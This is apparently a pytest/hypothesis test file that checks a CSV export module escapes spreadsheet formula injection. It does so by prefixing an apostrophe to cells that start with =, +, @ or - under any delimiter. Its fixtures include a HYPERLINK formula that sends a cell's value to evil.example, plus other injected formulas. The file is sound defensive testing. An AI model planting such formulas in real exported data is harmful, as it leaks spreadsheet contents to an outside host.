"""Exported tables: whichever character a spreadsheet parts them at, no cell of them is a formula."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.kernel.text.csv_tables import escape_formulas, table_of
from tests.architecture.test_rules import ROOT

FORMULA_STARTS = "=+@＝＋－＠-"
SPECIAL = st.sampled_from(
    [*FORMULA_STARTS, *",;|\t\r\n\"' ", "\u2028", "\x85", "\x0b", "\x1c", "\u00a0", "1", "=HYPERLINK(", '";"', '""']
)
CELLS = st.lists(st.one_of(SPECIAL, st.text(max_size=5)), max_size=8).map("".join)
ROWS = st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=4)


def read(content: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    return cell.strip().startswith(tuple(FORMULA_STARTS))


@given(ROWS)
def test_no_program_reads_a_formula_by_whichever_character_it_parts_at(rows: list[list[str]]) -> None:
    content = table_of(rows)
    for delimiter in ",;\t|":
        assert [cell for row in read(content, delimiter) for cell in row if is_formula(cell)] == []
    # A program that knows no quotes, or passes over them.
    text = content.decode("utf-8-sig")
    assert re.findall(rf'(?:^|[;|\t\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029])[\s"]*[{FORMULA_STARTS}]', text) == []


@given(ROWS)
def test_every_cell_is_read_back_as_it_was_but_for_apostrophes(rows: list[list[str]]) -> None:
    shown = read(table_of(rows), ",")
    assert [[cell.replace("'", "") for cell in row] for row in shown] == [
        [cell.replace("'", "") for cell in row] for row in rows
    ]


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("x;=1+1", "x;'=1+1"),
        ('x";"=1+1', 'x";\'"=1+1'),
        ("x\t@SUM(A1)", "x\t'@SUM(A1)"),
        ("first\n\n- second", "first\n'\n'- second"),
        ("＝1+1", "'＝1+1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("Heron = 1, 2 - 3; a@b.example", "Heron = 1, 2 - 3; a@b.example"),
        ("2026-11-28T10:00:00+00:00", "2026-11-28T10:00:00+00:00"),
    ],
)
def test_an_apostrophe_stands_before_what_would_be_a_formula_and_nowhere_else(written: str, kept: str) -> None:
    assert escape_formulas(written) == kept


@pytest.mark.parametrize("passed", ["\n", '"', " ;", '"\r\n'], ids=ascii)
def test_a_long_text_is_read_once(passed: str) -> None:
    """What reads it again from each of its characters does not come to an end."""
    long = passed * 1_000_000
    assert escape_formulas(f"x{long}x") == f"x{long}x"


def test_numbers_stay_numbers() -> None:
    row: list[Any] = [None, -5, Decimal("-12.50"), "-5"]
    assert read(table_of([row]), ",") == [["", "-5", "-12.50", "'-5"]]


def test_tables_are_written_in_one_place() -> None:
    """build_places.py writes a file of our own repository, which no spreadsheet opens."""
    files = [path for folder in ("app", "modules", "cli") for path in (ROOT / folder).rglob("*.py")]
    writers = {path.relative_to(ROOT) for path in files if "csv.writer(" in path.read_text()}
    assert writers == {Path("app/kernel/text/csv_tables.py"), Path("modules/profiles/data/build_places.py")}
